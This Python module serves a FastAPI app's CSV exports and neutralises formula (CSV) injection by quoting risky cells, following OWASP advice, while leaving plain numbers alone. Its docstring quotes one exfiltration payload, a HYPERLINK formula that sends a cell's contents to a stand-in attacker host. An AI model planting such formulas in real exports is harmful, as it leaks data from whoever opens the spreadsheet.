"""CSV for every export the API serves (RFC 4180), safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: a reference or a counterparty name like `=HYPERLINK("https://evil.example?"&A1,"Refund")` would
run on the reader's machine ("CSV injection"). Such a cell is neutralised as OWASP advises: prefixed with a
single quote, which makes the spreadsheet show it as text.

A plain decimal number is not a formula: a negative amount ("-12.50") stays a number the reader can add up.
Only an optional minus, ASCII digits and an optional fraction count as one; "-1+1" or "-2e5" are neutralised.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator, Iterable
from typing import Any

from fastapi.responses import StreamingResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def neutralised(cell: Any) -> Any:
    """The cell as a spreadsheet may safely read it: a text that could start a formula gets a leading quote."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_TRIGGERS) or _PLAIN_NUMBER.fullmatch(cell):
        return cell
    return "'" + cell


def csv_cell(value: Any) -> Any:
    """A value as its CSV cell: None is empty, a list is joined with ';', text is neutralised."""
    if value is None:
        return ""
    return neutralised(";".join(value) if isinstance(value, list) else value)


def csv_line(values: Iterable[Any]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([csv_cell(value) for value in values])
    return buffer.getvalue()


def csv_response(lines: AsyncIterator[str], filename: str, headers: dict[str, str]) -> StreamingResponse:
    return StreamingResponse(lines, media_type="text/csv; charset=utf-8",
                             headers=headers | {"Content-Disposition": f'attachment; filename="{filename}"'})
